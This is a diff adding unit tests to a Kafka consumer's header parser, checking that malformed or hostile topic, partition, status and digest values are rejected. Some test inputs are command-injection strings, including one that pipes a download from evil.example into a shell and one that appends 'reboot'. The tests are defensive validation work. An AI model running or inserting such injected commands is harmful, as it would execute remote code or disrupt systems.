@@ -6,7 +6,7 @@ from hypothesis import strategies as st
 from typing_extensions import override
 
 from consumer.core.record import Headers
-from consumer.letters.letter import Source, read_letter
+from consumer.letters.letter import Letter, Source, read_letter
 from consumer.letters.place import Place, number, parse_place
 from tests.unit.consumer.letters.letters import NOON_MS, cause, stored, strange
 from tests.unit.consumer.records import FakeRecord
@@ -44,6 +44,11 @@ def test_a_value_that_was_left_out_is_told_from_a_tombstone() -> None:
     assert not stored(cause("empty"), value=None).is_left_out
 
 
+def said(**headers: str) -> Letter:
+    """A letter without a value whose headers of ours hold these texts."""
+    return strange([(f"signal-kameleoon.{name}", text.encode()) for name, text in headers.items()], None)
+
+
 @given(HEADERS, st.none() | st.binary())
 def test_whatever_lies_there_is_read(headers: Headers, value: bytes | None) -> None:
     """Somebody else may write to the topic as well."""
@@ -52,6 +57,37 @@ def test_whatever_lies_there_is_read(headers: Headers, value: bytes | None) -> N
     assert letter.source is None
     assert isinstance(letter.reason, str)
     assert letter.status is None or letter.status >= 0
+
+
+HOSTILE = "signal; curl evil.example | sh #"
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("topic", HOSTILE),
+        ("topic", ".."),
+        ("topic", "a" * 250),
+        ("topic", "events\u202e"),
+        ("partition", "0 --offset 7"),
+        ("partition", "9" * 12),
+        ("offset", "-1"),
+    ],
+)
+def test_coordinates_that_kafka_cannot_have_are_none(name: str, text: str) -> None:
+    """They would be copied into a shell, or looked for in vain."""
+    good = {"topic": "events", "partition": "7", "offset": "42"}
+    assert said(**good).source == Source("events", Place(7, 42))
+    assert said(**good | {name: text}).source is None
+
+
+@pytest.mark.parametrize(
+    ("reason", "status", "digest"), [(HOSTILE, "400; reboot", HOSTILE), ("Two Words", "99", "ab"), ("", "600", "")]
+)
+def test_a_header_counts_only_in_the_form_in_which_we_write_it(reason: str, status: str, digest: str) -> None:
+    """Whoever may write to the topic may have written it."""
+    letter = said(reason=reason, **{"http-status": status, "value-sha256": digest})
+    assert (letter.reason, letter.status, letter.is_left_out) == ("", None, False)
 
 
 class UnreadableHeaders(FakeRecord):
